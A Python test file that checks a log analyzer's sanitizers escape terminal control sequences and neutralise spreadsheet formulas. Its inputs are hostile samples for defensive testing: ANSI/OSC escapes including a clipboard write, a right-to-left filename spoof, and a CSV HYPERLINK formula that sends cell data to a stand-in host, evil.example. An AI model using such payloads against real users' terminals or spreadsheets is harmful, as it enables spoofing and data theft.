"""Sink sanitizers: terminal/HTML escaping and spreadsheet formula neutralisation."""

from __future__ import annotations

import time
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from analyzer.report.sanitize import CSV_FORMULA_PREFIXES, for_csv, for_html_text, for_terminal

UNSAFE_CATEGORIES = {"Cc", "Cf", "Cs", "Zl", "Zp"}


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b[2J\x1b[H", r"\x1b[2J\x1b[H"),  # CSI clear screen
        ("\x1b]0;pwned\x07", r"\x1b]0;pwned\x07"),  # OSC title + BEL
        ("\x1b]52;c;ZXZpbA==\x07", r"\x1b]52;c;ZXZpbA==\x07"),  # OSC 52 clipboard
        ("\x1b]8;;https://e.example\x1b\\x", r"\x1b]8;;https://e.example\x1b\x"),  # OSC 8
        ("\x9b31m", r"\x9b31m"),  # C1 CSI
        ("\x85next", r"\x85next"),  # C1 NEL
        ("real-error\rOK", r"real-error\rOK"),  # bare CR overwrite
        ("a\nb", r"a\nb"),
        ("nul\x00del\x7f", r"nul\x00del\x7f"),
        ("invoice\u202etxt.exe", r"invoice\u202etxt.exe"),  # RLO
        ("\u2066iso\u2069 \u200e\u200f\u061c", r"\u2066iso\u2069 \u200e\u200f\u061c"),
        ("zero\u200bwidth\ufeff", r"zero\u200bwidth\ufeff"),
        ("tag\U000e0041", r"tag\U000e0041"),
        ("line\u2028sep\u2029", r"line\u2028sep\u2029"),
        ("caf\udce9.log", r"caf\xe9.log"),  # surrogateescape byte shown as the byte
        ("lone\ud800", r"lone\ud800"),
    ],
)
def test_terminal_escapes(raw: str, shown: str) -> None:
    assert for_terminal(raw) == shown
    assert for_html_text(raw) == shown


def test_tab_kept_newline_only_when_multiline() -> None:
    assert for_terminal("a\tb") == "a\tb"
    assert for_terminal("a\nb", multiline=True) == "a\nb"
    assert for_terminal("a\r\nb", multiline=True) == "a\\r\nb"
    assert for_terminal("a\x1b\nb", multiline=True) == "a\\x1b\nb"


def test_clean_text_is_returned_unchanged() -> None:
    clean = "2025-03-10T08:30:00Z INFO ExtHandler café 日本 ✓ 🙂 [bold]x[/bold] <b>"
    assert for_terminal(clean) is clean
    with_tab = "a\tb"
    assert for_terminal(with_tab) is with_tab


def test_html_sanitizer_leaves_html_escaping_to_autoescape() -> None:
    out = for_html_text("<script>")
    assert out == "<script>"
    assert type(out) is str  # never Markup: autoescape must still apply


def test_every_format_character_of_this_python_is_escaped() -> None:
    missing = [
        f"U+{code:04X}"
        for code in range(0x110000)
        if unicodedata.category(chr(code)) == "Cf" and for_terminal(chr(code)) == chr(code)
    ]
    assert missing == []


@given(st.text(alphabet=st.characters(exclude_categories=()), max_size=200), st.booleans())
def test_output_has_no_unsafe_characters(text: str, multiline: bool) -> None:
    out = for_terminal(text, multiline=multiline)
    allowed = {"\t", "\n"} if multiline else {"\t"}
    bad = [c for c in out if c not in allowed and unicodedata.category(c) in UNSAFE_CATEGORIES]
    assert bad == []
    assert for_terminal(out, multiline=multiline) == out  # idempotent
    out.encode("utf-8")  # no lone surrogates left: printable and encodable


@given(st.text(alphabet=st.characters(exclude_categories=("Cc", "Cf", "Cs", "Zl", "Zp"))))
def test_safe_text_unchanged(text: str) -> None:
    assert for_terminal(text) == text


def test_fast_enough_for_large_reports() -> None:
    clean = ["2025-03-10T08:30:00.112233Z WARNING ExtHandler ExtHandler " + "x" * 150] * 50_000
    dirty = [line + "\x1b[31m" for line in clean[:10_000]]
    start = time.perf_counter()
    for line in clean:
        for_terminal(line)
    for line in dirty:
        for_terminal(line)
    assert time.perf_counter() - start < 2.0


@pytest.mark.parametrize("prefix", CSV_FORMULA_PREFIXES)
def test_csv_formula_prefixes_are_neutralised(prefix: str) -> None:
    value = prefix + 'HYPERLINK("http://evil.example/?"&A1,"x")'
    out = for_csv(value)
    assert isinstance(out, str)
    assert out.startswith("'")
    assert for_csv(value, escape_controls=False) == "'" + value


def test_csv_examples() -> None:
    assert for_csv('=HYPERLINK("http://evil.example/?"&A1,"x")') == (
        '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
    )
    assert for_csv("-1") == "'-1"  # a *string* that looks like a number is still text
    assert for_csv("@SUM(A1)") == "'@SUM(A1)"
    assert for_csv("\r=1+2") == "'\\r=1+2"  # prefixed, and the CR escaped
    assert for_csv("\ttab") == "'\ttab"
    assert for_csv("var/log/waagent.log") == "var/log/waagent.log"
    assert for_csv("a=b") == "a=b"
    assert for_csv("") == ""
    assert for_csv("name\x1b]0;x\x07") == "name\\x1b]0;x\\x07"


@pytest.mark.parametrize("value", [-1, -2.5, 0, 42, None, True])
def test_csv_numbers_and_non_strings_untouched(value: object) -> None:
    assert for_csv(value) is value
